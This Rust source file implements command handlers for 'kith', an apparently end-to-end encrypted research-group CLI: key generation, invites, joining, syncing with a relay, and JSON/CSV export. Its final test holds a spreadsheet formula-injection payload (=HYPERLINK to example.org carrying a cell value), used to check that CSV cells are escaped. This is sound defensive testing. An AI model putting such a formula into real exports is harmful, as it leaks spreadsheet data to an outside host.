//! One function per command. Each loads what it needs, calls the core,
//! persists the core's store operations, and says what happened.

use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::Path;
use std::process::ExitCode;

use anyhow::{Context, Result, bail};
use kith_core::kinds::Kind;
use kith_core::{
    AgeIdentity, Client, ContributionId, ContributionView, Joining, NewAlliance, Recipient, Role,
    SyncReport,
};
use rand_core::OsRng;
use serde_json::json;

use crate::membership::{cohort_by_name, run_cohort, run_device, run_member, run_research_team};
use crate::relay::{Relay, join_relay, now, publish, sync};
use crate::store::{DataDir, owner_only, write_atomic};
use crate::watch::{Mode, watch};
use crate::{Command, ExportFormat, Output, ScopeArg};

const DAY_MS: u64 = 24 * 60 * 60 * 1000;

pub fn run(command: Command, json_output: bool) -> Result<Output> {
    match command {
        Command::Keygen { out } => keygen(&out),
        Command::Init {
            data_dir,
            relay,
            alliance,
            cohort,
            history,
            name,
            researchers,
            registration_token,
        } => init(
            &DataDir::new(&data_dir),
            NewAlliance {
                name: alliance,
                cohort,
                relay,
                pseudonym: name,
                researchers: Vec::new(),
                history: history.into(),
            },
            &researchers,
            registration_token
                .map(|t| crate::secrets::read(&t, "--registration-token"))
                .transpose()?
                .as_deref()
                .map(String::as_str),
        ),
        Command::Invite {
            action: Some(action),
            ..
        } => crate::membership::run_invite(action),
        Command::Invite {
            action: None,
            data_dir,
            role,
            cohort,
            days,
            qr,
            app,
        } => invite(
            &DataDir::new(&data_dir.context("--data-dir is needed")?),
            role.into(),
            cohort.as_deref(),
            days,
            qr,
            app.as_deref(),
        ),
        Command::Join {
            data_dir,
            invite,
            name,
            relay,
        } => join(
            &DataDir::new(&data_dir),
            &crate::secrets::read(&invite, "--invite")?,
            &name,
            relay.as_deref(),
        ),
        Command::Contribute {
            data_dir,
            text,
            scope,
        } => contribute(&DataDir::new(&data_dir), &text, scope),
        Command::Prompt { data_dir, text } => {
            let dir = DataDir::new(&data_dir);
            let mut client = dir.load()?;
            let (id, ops) = client.post_prompt(&text, now(), &mut OsRng)?;
            dir.apply(ops)?;
            Ok(Output::ok(
                json!({ "contribution_id": id.to_string() }),
                "Saved on this device. Your group sees it after the next sync.",
            ))
        }
        Command::Respond {
            data_dir,
            to,
            text,
            scope,
        } => {
            let prompt: ContributionId = to.parse().map_err(|_| {
                anyhow::anyhow!("'{to}' is not a question's id; `kith list` shows them")
            })?;
            let dir = DataDir::new(&data_dir);
            let mut client = dir.load()?;
            let (id, ops) = client.respond(prompt, &text, scope.into(), now(), &mut OsRng)?;
            dir.apply(ops)?;
            Ok(Output::ok(
                json!({ "contribution_id": id.to_string() }),
                "Saved on this device. It will be sent at the next sync.",
            ))
        }
        Command::Suggest { data_dir, text } => {
            let dir = DataDir::new(&data_dir);
            let mut client = dir.load()?;
            let (id, ops) = client.suggest(&text, now(), &mut OsRng)?;
            dir.apply(ops)?;
            Ok(Output::ok(
                json!({ "contribution_id": id.to_string() }),
                "Saved on this device. Your cohort sees it on the agenda after the next sync.",
            ))
        }
        Command::Edit { data_dir, id, text } => {
            change_own(&DataDir::new(&data_dir), &id, Some(&text))
        }
        Command::Delete { data_dir, id } => change_own(&DataDir::new(&data_dir), &id, None),
        Command::Cohort(command) => run_cohort(command),
        Command::Member(command) => run_member(command),
        Command::ResearchTeam(command) => run_research_team(command),
        Command::Release(command) => crate::release::run_release(command),
        Command::Device(command) => run_device(command),
        Command::Sync {
            data_dir,
            watch: false,
            ..
        } => sync_command(&DataDir::new(&data_dir)),
        Command::Sync { data_dir, poll, .. } => {
            watch_command(&DataDir::new(&data_dir), poll, json_output)
        }
        Command::List { data_dir } => {
            let client = DataDir::new(&data_dir).load()?;
            for gap in client.gaps() {
                eprintln!("kith: not shown yet: {gap}; run `kith sync`");
            }
            Ok(listing(&client.contributions()))
        }
        Command::Export {
            data_dir,
            identity,
            format,
            out,
        } => export(
            &DataDir::new(&data_dir),
            &identity,
            format,
            out.as_deref(),
            json_output,
        ),
    }
}

fn keygen(out: &Path) -> Result<Output> {
    let identity = AgeIdentity::generate(&mut OsRng);
    let recipient = identity.recipient().to_string();
    let text = zeroize::Zeroizing::new(format!(
        "# created by kith keygen\n# public key: {recipient}\n{}\n",
        *identity.export_secret()
    ));
    let mut file = owner_only(OpenOptions::new().write(true).create_new(true))
        .open(out)
        .with_context(|| format!("cannot create {} (it must not exist yet)", out.display()))?;
    file.write_all(text.as_bytes())?;
    file.sync_all()?;
    Ok(Output::ok(
        json!({ "recipient": recipient }),
        format!(
            "Saved a new identity to {}.\nPublic recipient: {recipient}",
            out.display()
        ),
    ))
}

fn init(
    dir: &DataDir,
    mut new: NewAlliance,
    researchers: &[String],
    registration_token: Option<&str>,
) -> Result<Output> {
    dir.ensure_empty()?;
    new.researchers = researchers
        .iter()
        .map(|r| Recipient::parse(r))
        .collect::<Result<Vec<_>, _>>()?;
    if new.researchers.is_empty() {
        eprintln!(
            "kith: warning: no --researcher given; the research team will not be able to read anything"
        );
    }
    let (mut client, ops) = Client::create_alliance(new, now(), &mut OsRng)?;
    let request = client.register_request_with_token(registration_token, now(), &mut OsRng);
    let response = Relay::new(&client.profile().relay).send(&request)?;
    if !(200..300).contains(&response.status) {
        bail!(
            "the relay refused to register the alliance: {}",
            response.refusal_message()
        );
    }
    dir.apply(ops)?;
    sync(&mut client, dir)?;
    let id = client.profile().alliance.to_string();
    Ok(Output::ok(
        json!({ "alliance_id": id, "device_id": client.device_id().to_string() }),
        format!("Created alliance {id}."),
    ))
}

fn invite(
    dir: &DataDir,
    role: Role,
    cohort: Option<&str>,
    days: u64,
    qr: bool,
    app: Option<&str>,
) -> Result<Output> {
    let app = app.map(app_address).transpose()?;
    let mut client = dir.load()?;
    sync(&mut client, dir).context("an invite needs the relay; sync failed")?;
    let cohort = cohort
        .map(|name| cohort_by_name(&client, name))
        .transpose()?;
    let invite = publish(&mut client, dir, |c| {
        c.create_invite(role, cohort, days * DAY_MS, now(), &mut OsRng)
    })?;
    // Into a cohort read from join on, this device (if in it) opens the
    // chapter the newcomer will read, so what it writes next reaches them.
    if let Err(e) = sync(&mut client, dir) {
        eprintln!("kith: the invite is made, but the sync after it failed ({e:#}); sync later");
    }
    let link = match &app {
        Some(app) => invite.link_at(app),
        None => invite.link(),
    };
    let mut shown = format!(
        "Send this link to the new {} (it works once, for {days} days):\n{}\n\
         To cancel it before it is used: kith invite cancel --id {}",
        role.as_str(),
        *link,
        invite.invite
    );
    let mut output = json!({ "invite": *link, "invite_id": invite.invite.to_string() });
    if qr {
        let code = crate::qr::terminal(&link)?;
        shown = format!("{shown}\n\nOr let them scan this with their phone's camera:\n\n{code}");
        output["qr"] = json!(code);
    }
    Ok(Output::ok(output, shown))
}

/// The address an app is served at, checked: `https://host[:port][/path]`.
fn app_address(text: &str) -> Result<String> {
    let rest = text
        .strip_prefix("https://")
        .or_else(|| text.strip_prefix("http://"));
    match rest {
        Some(rest) if !rest.is_empty() && !rest.contains(['#', '?', ' ']) => Ok(text.to_owned()),
        _ => anyhow::bail!(
            "--app '{text}' is not a web address; give where the app is served, like https://app.example.org"
        ),
    }
}

fn join(dir: &DataDir, invite: &str, name: &str, relay: Option<&str>) -> Result<Output> {
    dir.ensure_empty()?;
    // A join that failed part-way is tried again by the same device: the
    // relay has given the invite to it, and answers it again.
    let mut joining = match dir.pending_join()? {
        Some(secret) => Joining::resume(invite, name, &secret)?,
        None => Joining::new(invite, name, &mut OsRng)?,
    };
    if let Some(relay) = relay {
        joining.reach_relay_at(relay);
    }
    dir.keep_pending_join(&joining.device_secret())?;
    let mut client = join_relay(joining, dir).map_err(|e| {
        anyhow::anyhow!(
            "{e:#} (nothing is lost: once that is sorted, run `kith join` again with this \
             --data-dir and the same invite)"
        )
    })?;
    dir.forget_pending_join()?;
    match sync(&mut client, dir) {
        // What the first sync refused is said now: later syncs do not say
        // the same refusal again.
        Ok(report) if !report.is_clean() => warn_about_relay(&report),
        Ok(_) => {}
        Err(e) => {
            eprintln!("kith: joined, but the first sync failed ({e:#}); run `kith sync` later")
        }
    }
    let alliance = client.profile().alliance.to_string();
    Ok(Output::ok(
        json!({
            "alliance_id": alliance,
            "device_id": client.device_id().to_string(),
            "member_id": client.profile().member.to_string(),
        }),
        format!(
            "Joined {} as {}.",
            client.profile().alliance_name,
            client.profile().pseudonym
        ),
    ))
}

fn contribute(dir: &DataDir, text: &str, scope: ScopeArg) -> Result<Output> {
    let mut client = dir.load()?;
    let (id, ops) = client.contribute(text, scope.into(), now(), &mut OsRng)?;
    dir.apply(ops)?;
    let saved = "Saved on this device. It will be sent at the next sync.";
    let history = client
        .cohort_history()
        .filter(|_| scope == ScopeArg::Cohort);
    let Some(history) = history else {
        return Ok(Output::ok(
            json!({ "contribution_id": id.to_string() }),
            saved,
        ));
    };
    let later = history == kith_core::History::Whole;
    Ok(Output::ok(
        json!({ "contribution_id": id.to_string(), "people_who_join_later_read_it": later }),
        format!("{saved}\n{}", who_reads_cohort_writing(history)),
    ))
}

/// Who reads what a member writes to their cohort, in a member's words.
pub(crate) fn who_reads_cohort_writing(history: kith_core::History) -> &'static str {
    match history {
        kith_core::History::FromJoin => {
            "Your group reads it (the people in it now, and anyone already invited) and the \
             research team. Someone invited to your group later will not."
        }
        kith_core::History::Whole => {
            "Your group reads it and the research team. \
             Someone invited to your group later will read it too."
        }
    }
}

/// Edits (with a new text) or deletes one of the member's own contributions.
fn change_own(dir: &DataDir, id: &str, text: Option<&str>) -> Result<Output> {
    let id: ContributionId = id
        .parse()
        .map_err(|_| anyhow::anyhow!("'{id}' is not a contribution id; `kith list` shows them"))?;
    let mut client = dir.load()?;
    let (ops, done, said) = match text {
        Some(text) => (
            client.edit(id, text, now(), &mut OsRng)?,
            "edited",
            "Edited",
        ),
        None => (client.delete(id, now(), &mut OsRng)?, "deleted", "Deleted"),
    };
    dir.apply(ops)?;
    Ok(Output::ok(
        json!({ done: id.to_string() }),
        format!("{said} on this device. Others see it after the next sync."),
    ))
}

/// Exit code when the relay served altered data or held some back.
const EXIT_RELAY_MISBEHAVED: u8 = 3;

fn sync_command(dir: &DataDir) -> Result<Output> {
    let mut client = dir.load()?;
    let report = sync(&mut client, dir)?;
    let (json, said) = sync_summary(&report);
    let mut out = Output::ok(json, said);
    if !report.is_clean() {
        warn_about_relay(&report);
        out.exit = ExitCode::from(EXIT_RELAY_MISBEHAVED);
    }
    Ok(out)
}

/// A sync's report, for `--json` and for people.
fn sync_summary(report: &SyncReport) -> (serde_json::Value, String) {
    let rejected: Vec<String> = report.rejected.iter().map(ToString::to_string).collect();
    let missing: Vec<String> = report.missing.iter().map(ToString::to_string).collect();
    let mut said = format!("Sent {}, received {}.", report.sent, report.received);
    if report.kept > 0 {
        said.push_str(&format!(
            " {} kept on this device until your group's new key arrives (someone left); \
             sync again later.",
            report.kept
        ));
    }
    let json = json!({
        "sent": report.sent,
        "received": report.received,
        "kept": report.kept,
        "rejected": rejected,
        "missing": missing,
    });
    (json, said)
}

fn watch_command(dir: &DataDir, poll: bool, json_output: bool) -> Result<Output> {
    let mut client = dir.load()?;
    let mode = if poll { Mode::Poll } else { Mode::Stream };
    let mut report = |report: &SyncReport| {
        let (json, said) = sync_summary(report);
        if json_output {
            println!("{json}");
        } else {
            println!("{said}");
        }
        if !report.is_clean() {
            warn_about_relay(report);
        }
    };
    watch(&mut client, dir, mode, &mut report)?;
    Ok(Output::ok(json!({}), ""))
}

/// Says on stderr what the relay got wrong, and what to do.
fn warn_about_relay(report: &SyncReport) {
    let writer_of = |r: &kith_core::Rejection| {
        report
            .refused_writers
            .iter()
            .find(|(blob, _)| *blob == r.blob())
            .map(|(_, name)| name.clone())
    };
    for r in &report.rejected {
        match writer_of(r) {
            Some(name) => eprintln!(
                "kith: refused: {r}; it was signed by a device of {name}, whose app broke the \
                 alliance's rules (a changed app, or a device in someone else's hands): tell your steward"
            ),
            None => eprintln!("kith: refused: {r}"),
        }
    }
    for m in &report.missing {
        eprintln!("kith: missing: {m}");
    }
    if report.rejected.iter().any(|r| writer_of(r).is_none()) {
        eprintln!(
            "kith: the relay served data that failed its checks; none of it was applied, and \
             nothing saved on this device was changed. Tell your steward: the relay's data may have been tampered with."
        );
    }
    if !report.missing.is_empty() {
        eprintln!(
            "kith: the relay has not sent everything it should; `kith sync` asks for it again \
             each time. If this lasts, tell your steward."
        );
    }
}

fn listing(contributions: &[ContributionView]) -> Output {
    let text = contributions
        .iter()
        .map(|c| {
            let audience = if c.research_only {
                "research team only"
            } else {
                "cohort and research team"
            };
            let who = match (c.kind, c.prompt) {
                (Kind::Prompt, _) => format!("Question from {}", c.author),
                (Kind::Response, Some(prompt)) => {
                    format!("{}, answering question [{prompt}]", c.author)
                }
                (Kind::Agenda, _) => format!("For the next meeting, from {}", c.author),
                _ => c.author.clone(),
            };
            format!(
                "{}  {who} ({audience}) [{}]\n  {}",
                c.created_at, c.id, c.text
            )
        })
        .collect::<Vec<_>>()
        .join("\n\n");
    Output::ok(json!({ "contributions": contributions }), text)
}

fn export(
    dir: &DataDir,
    identity: &Path,
    format: ExportFormat,
    out: Option<&Path>,
    json_output: bool,
) -> Result<Output> {
    let text = zeroize::Zeroizing::new(
        fs::read_to_string(identity)
            .with_context(|| format!("cannot read {}", identity.display()))?,
    );
    let identity = AgeIdentity::parse(&text)?;
    let mut client = dir.load()?;
    let report = sync(&mut client, dir).context("export syncs first so nothing is missed")?;
    if client.role() != kith_core::Role::Researcher {
        eprintln!(
            "kith: warning: this device fetches only the spaces its member reads, so this export \
             holds only those; for everything the research team reads, export from the \
             researcher's device"
        );
    }
    // The device's own reader holds what it read; the researcher's key opens
    // the rest. Each stored blob is opened once; nothing of the key is saved.
    let view = client.into_research_view(identity)?;
    if !view.refused().is_empty() {
        eprintln!(
            "kith: warning: {} blob(s) failed their checks and were left out",
            view.refused().len()
        );
    }
    for gap in view.gaps() {
        eprintln!("kith: warning: left out of this export: {gap}");
    }
    if !report.is_clean() {
        eprintln!(
            "kith: warning: the relay did not serve everything intact (run `kith sync` for details)"
        );
    }
    let contributions = view.contributions();
    let document = json!({ "contributions": contributions });
    let bytes = match format {
        ExportFormat::Json => serde_json::to_vec_pretty(&document)?,
        ExportFormat::Csv => csv_bytes(&contributions)?,
    };
    match out {
        Some(path) => {
            write_atomic(path, &bytes)?;
            Ok(Output::ok(
                json!({ "out": path.display().to_string(), "count": contributions.len() }),
                format!(
                    "Wrote {} contribution{} to {}.",
                    contributions.len(),
                    if contributions.len() == 1 { "" } else { "s" },
                    path.display()
                ),
            ))
        }
        // Without --out, --format alone decides what reaches stdout.
        None if format == ExportFormat::Json => Ok(Output::ok(document, String::from_utf8(bytes)?)),
        None if json_output => bail!(
            "--json prints one JSON object, so CSV cannot go to stdout with it: \
             add --out FILE, or leave out --json"
        ),
        None => Ok(Output::ok(
            json!({}),
            String::from_utf8(bytes)?.trim_end().to_owned(),
        )),
    }
}

/// A cell a spreadsheet will show as text: one that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return would be read as a formula (and
/// could, say, send data to a web address), so it gets a leading
/// apostrophe, which spreadsheets hide. The JSON export keeps the text as
/// written.
fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

fn csv_bytes(contributions: &[ContributionView]) -> Result<Vec<u8>> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record([
        "id",
        "author",
        "text",
        "created_at",
        "research_only",
        "kind",
        "answers",
    ])?;
    for c in contributions {
        let research_only = if c.research_only { "yes" } else { "no" };
        let kind = serde_json::to_value(c.kind)?;
        writer.write_record([
            c.id.to_string().as_str(),
            &spreadsheet_safe(&c.author),
            &spreadsheet_safe(&c.text),
            &c.created_at,
            research_only,
            kind.as_str().unwrap_or_default(),
            &c.prompt.map(|p| p.to_string()).unwrap_or_default(),
        ])?;
    }
    Ok(writer.into_inner()?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_shown_as_text() {
        let view = |author: &str, text: &str| ContributionView {
            id: kith_core::ContributionId([1; 16]),
            author: author.into(),
            text: text.into(),
            created_at: "2026-12-03T00:00:00Z".into(),
            research_only: false,
            scope: None,
            member: None,
            kind: kith_core::kinds::Kind::Reflection,
            mine: false,
            prompt: None,
            device: None,
        };
        let attack = r#"=HYPERLINK("http://example.org/?q="&A1,"x")"#;
        let rows = [
            view("=cmd", attack),
            view("Sam", "+1 for this"),
            view("Sam", "-2"),
            view("@Alex", "\tindented"),
            view("Sam", "\rreturn"),
            view("Sam", "plain, and = inside is fine"),
        ];
        let bytes = csv_bytes(&rows).unwrap();
        let mut reader = csv::Reader::from_reader(&bytes[..]);
        let cells: Vec<(String, String)> = reader
            .records()
            .map(|r| {
                let r = r.unwrap();
                (r[1].to_owned(), r[2].to_owned())
            })
            .collect();
        for (author, text) in &cells[..5] {
            for cell in [author, text] {
                let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(!risky, "{cell:?} would be read as a formula");
            }
        }
        assert_eq!(
            cells[0].1,
            format!("'{attack}"),
            "kept whole after the apostrophe"
        );
        assert_eq!(
            cells[5].1, "plain, and = inside is fine",
            "other cells untouched"
        );
    }
}
